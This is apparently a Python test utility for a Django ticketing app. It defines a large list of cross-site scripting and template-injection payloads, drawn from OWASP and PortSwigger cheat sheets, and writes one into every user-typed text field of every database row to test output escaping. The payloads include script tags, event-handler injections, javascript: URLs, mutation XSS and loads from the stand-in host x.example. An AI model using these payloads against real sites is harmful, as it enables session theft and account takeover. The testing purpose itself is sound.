"""Texts that attack the page they stand in, and a way to put them into every text field of a whole world.

Kinds of attacks after the cheat sheets of OWASP and PortSwigger: out of elements, attributes, scripts, comments and
styles, through schemes, mutations, templates and Markdown. Each tells of itself by alert() or fetches from
//x.example.
"""

from django.apps import apps
from django.contrib.admin.models import LogEntry
from django.contrib.postgres.fields import ArrayField
from django.db import models

from tickets.models import Message
from tickets.uploads import tidy_name

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//x.example/x.js></script>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</template><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
</noscript><script>alert(1)</script>
</select><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=//x.example/x.png>
<img/src=`x`onerror=alert(1)>
<img src="x" onerror="&#97;lert(1)">
<img srcset="//x.example/x.png 1x">
<img dynsrc=javascript:alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert&lpar;1&rpar;</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//x.example/></iframe>
<object data=//x.example/x.swf></object>
<embed src=//x.example/x.swf>
<link rel=stylesheet href=//x.example/x.css>
<link rel=preload as=image href=//x.example/x.png>
<base href=//x.example/>
<meta http-equiv=refresh content="0;url=//x.example/">
<style>@import '//x.example/x.css';</style>
<p style="background:url(//x.example/x.png)">x</p>
<form action=//x.example/><input name=password autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<xss id=x tabindex=1 onfocus=alert(1) autofocus>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>
<a href="java&#9;script:alert(1)">x</a>
<div hx-get=//x.example/ hx-trigger=load>x</div>
<div hx-on:load="alert(1)" data-hx-on::load="alert(1)">x</div>
<div data-menu-search data-palette data-live=x id=main class=btn>x</div>
" onmouseover=alert(1) autofocus onfocus=alert(1) x="
' onmouseover=alert(1) autofocus onfocus=alert(1) x='
` onfocus=alert(1) autofocus x=`
" style="background:url(//x.example/x.png)" x="
javascript:alert(1)
JaVaScRiPt:alert(1)//
data:text/html,<script>alert(1)</script>
';alert(1);'
";alert(1);"
\";alert(1);//
${alert(1)}
`+alert(1)+`
{{constructor.constructor('alert(1)')()}}
{% load x %}{{ settings.SECRET_KEY }}%(x)s{0.__class__}
[x](javascript:alert(1)) ![x](//x.example/x.png)
[x](java&#x73;cript:alert(1)) [x]: javascript:alert(1)
[x](https://a" onmouseover="alert(1)) <https://a"onfocus=alert(1)>
```"><img src=x onerror=alert(1)>
# <img src=x onerror=alert(1)>
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
＜script＞alert(1)＜/script＞
jaVasCript:/*-/*`/*\`/*'/*"/**/(/**/oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/--!>\x3csVg/<sVg/oNloAd=alert(1)//>
'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=alert(1)>
""".strip().splitlines()

# Under which keys people typed words, where JSON holds numbers and names of ours, too.
TYPED = {
    "Event.details": {"resolution", "reason", "added", "removed"},
    "CalendarVersion.spec": {"names"},
    "Letter.steps": {"files", "sender", "rule", "by"},
    "Rule.conditions": {"value", "header"},
    "MailBody.invitations": {"summary", "location", "organizer", "attendees"},
    "Step.actions": {"tag", "words"},
    "Proposal.content": {"name", "names", "tag", "words"},
}
ROOMS = {"accounts", "tickets", "channels", "notifications", "sla"}
# What the house itself writes there; nobody can type it. `html` comes from the words, by core/html.py.
OF_THE_HOUSE = {
    "Desk.slug", "Desk.icon", "Category.icon", "FormField.key", "User.password", "User.time_zone",
    "Attachment.content_type", "Attachment.sha256", "Message.html", "Arrangement.view", "Arrangement.columns",
    "Arrangement.widths",
    "Event.pending", "Event.standing",
    "SavedView.conditions", "SavedView.sort", "StatusMove.roles", "FormField.show_when_values",
    "OrganizationDomain.domain", "Contract.ip_ranges", "Draft.content",
    "Outgoing.kind", "Outgoing.message_id", "Outgoing.in_reply_to", "Outgoing.references", "Outgoing.headers",
    "Outgoing.html", "LogEntry.object_id", "Outgoing.to", "Outgoing.reply_to", "Mailbox.address",
    "Webhook.address", "Webhook.salt", "WebhookCall.key", "WebhookCall.payload", "WebhookCall.answer",
    "PolicyVersion.fits", "Target.pauses_in", "Clock.carried", "Clock.pauses", "Clock.standing", "Clock.fired",
    "Clock.armings", "Clock.spent", "Firing.step", "Deed.result", "Correction.differences", "ServiceRecord.standing",
    "Proposal.effect", "Message.doubts", "Account.sealed_password", "Letter.place", "Letter.sha256", "Letter.reason",
    "Account.sealed_secret", "Account.sealed_token", "Account.heard_by", "Account.test_steps",
    "MailBody.html", "MailBody.css", "MailPicture.content_id", "MailPicture.content_type",
    "Letter.content_hash", "Letter.envelope_from", "Letter.envelope_to", "Outgoing.sent_by", "Breaker.address",
    "Transport.hook_key", "Transport.sealed_password", "Transport.sealed_signing_key", "Mailbox.sealed_dkim_key",
    "Transport.sealed_secret", "Transport.sealed_token",
    "Inlet.hook_key", "Inlet.sealed_signing_key", "Outgoing.provider_id", "Suppression.address",
}  # fmt: skip


def text_fields():
    """{"Ticket.subject": field} for every field of ours that people fill with words."""
    found = {}
    for model in [*filter(lambda model: model._meta.app_label in ROOMS, apps.get_models()), LogEntry]:
        for field in model._meta.local_concrete_fields:
            kinds = (models.CharField, models.TextField, models.JSONField, ArrayField)
            name = f"{model.__name__}.{field.name}"
            if isinstance(field, kinds) and not field.choices and name not in OF_THE_HOUSE:
                found[name] = field
    return found


def poison():
    """Put a payload into every text field of every row; each ends with the name of its field."""
    turn = 0
    for name, field in text_fields().items():
        rows = list(field.model._base_manager.order_by("pk"))
        for row in rows:
            turn += 1
            setattr(row, field.name, hostile(field, getattr(row, field.name), name, turn))
        if field.model is Message:
            for row in rows:
                row.save()
        else:
            field.model._base_manager.bulk_update(rows, [field.name], batch_size=500)


def hostile(field, value, name, turn):
    mark = f" {name}.{turn}"
    payload = PAYLOADS[turn % len(PAYLOADS)]
    if isinstance(field, models.EmailField):
        return (
            value
            if value.endswith("@meridian.example")
            else f'"<svg/onload=alert(1)>{name}.{turn}"@x.example'
        )
    if isinstance(field, models.JSONField):
        return typed_within(value, TYPED.get(name), payload + mark)
    if isinstance(field, ArrayField):
        most = field.base_field.max_length
        return [payload[: most - len(mark)] + mark] * bool(value)
    text = payload[: (field.max_length or 1000) - len(mark)] + mark
    return tidy_name(text) if name == "Attachment.name" else text


def typed_within(value, keys, text):
    """JSON with `text` for every word that people typed: what lies under one of `keys`; None: all."""
    if isinstance(value, dict):
        return {
            key: typed_within(one, None if keys is None or key in keys else keys, text)
            for key, one in value.items()
        }
    if isinstance(value, list):
        return [typed_within(one, keys, text) for one in value]
    return text if keys is None and isinstance(value, str) else value
